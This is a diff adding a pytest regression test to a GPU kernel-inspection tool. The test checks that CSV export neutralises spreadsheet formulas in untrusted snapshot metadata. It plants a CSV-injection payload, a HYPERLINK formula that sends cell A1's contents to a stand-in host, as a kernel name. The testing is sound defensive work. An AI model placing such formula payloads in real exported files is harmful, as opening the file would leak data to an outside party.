@@ -61,3 +61,17 @@ def test_the_alu_mix_is_counted_against_the_stage_text(tmp_path):
     assert amd["amdgcn.v_fma"] == len(re.findall(r"^\s+v_fmac?_\w+", text, re.M)) > 0
     # Packed ops are not also counted as their one-lane kin.
     assert amd["amdgcn.v_mul"] == len(re.findall(r"^\s+v_mul_\w+", text, re.M))
+
+
+def test_csv_cells_from_an_untrusted_snapshot_are_never_formulas(cli, goldens):
+    # A snapshot folder is untrusted: a kernel name '=HYPERLINK(...)' in its irscope.json became a formula cell
+    # of `stats --csv` (and of compare's and sweep's CSV) that a spreadsheet runs when the file is opened.
+    snap = goldens["add/default/sm_80"]
+    meta = json.loads((snap / "irscope.json").read_text())
+    meta["kernel"] = '=HYPERLINK("http://example.invalid/?"&A1,"click")'
+    (snap / "irscope.json").write_text(json.dumps(meta))
+    code, out, err = cli("stats", snap, "--csv")
+    assert code == 0, err
+    row = next(csv.DictReader(io.StringIO(out)))
+    assert row["kernel"] == "'" + meta["kernel"]
+    assert row["res.registers"].isdigit()  # numbers are left as they are
